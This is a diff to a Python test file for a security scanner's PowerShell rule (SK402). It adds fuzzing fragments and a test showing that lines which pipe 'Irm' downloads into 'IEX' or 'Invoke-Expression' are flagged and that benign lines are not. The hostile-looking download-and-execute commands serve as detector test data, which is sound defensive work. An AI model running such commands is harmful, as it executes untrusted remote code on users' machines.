@@ -24,7 +24,8 @@ PIECES = (
     "iwr u | iex", "irm", "confirm", "Invoke-WebRequest x ", "invoke-", "npx ", "npx -y pkg", "pkg@1.2",
     "pnpm dlx ", "bunx ", "pipx run ", "uvx ", "black==1", "--yes ", "@scope/tool ", "\n", "\n", " ", " ",
     "```\n", "~~~\n", '"', "'", "`", "“", "”", "İ", "\u212a", "\u017f", "é", "\U0001d4b3", "\u200d", "x", "3",
-    "-", "_", ".", "confirm ", "Confirm | ", "ırm ", "| ıex", "iex",
+    "-", "_", ".", "confirm ", "Confirm | ", "ırm ", "| ıex", "iex", "| Invoke-Expression", "invoke-expressio",
+    "| IEX", "Invoke-RestMethod u ", "ie", "x",
 )
 texts = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)
 
@@ -123,6 +124,21 @@ def test_lines_without_a_bar_and_bodies_without_a_command(monkeypatch):
     source, lowered, held = security._read(quiet)
     assert held == {"prompt", "rules", "messages"} and lowered is source == quiet.encode()
     assert _byte_scans(quiet) == _scans(reference, quiet) == ([], [])
+
+
+def test_a_powershell_download_is_read_only_with_what_it_is_piped_into(monkeypatch):
+    """SK402's PowerShell words (``irm`` in "confirm" and "firmware") neither lower a body nor have their lines
+    read unless it holds ``iex`` or ``Invoke-Expression``, the only things the regex lets them be piped into."""
+    read_with_sets(monkeypatch, views.MARK_SETS, True)
+    quiet = "Confirm | the firmware.\nirm https://y | sh\n"
+    source, lowered, held = security._read(quiet)
+    assert "irm" in held and lowered is source
+    assert _byte_scans(quiet) == _scans(reference, quiet) == ([], [])
+    for into in ("IEX", "Invoke-Expression"):
+        loud = f"{quiet}Irm https://z | {into}\n"
+        assert security._read(loud)[1] == loud.lower().encode()
+        assert [d.line for d in _byte_scans(loud)[1]] == [3 + 2] == [d.line for d in _scans(reference, loud)[1]]
+        _both_ways(loud, monkeypatch)
 
 
 @pytest.mark.slow  # the whole corpus of real skills
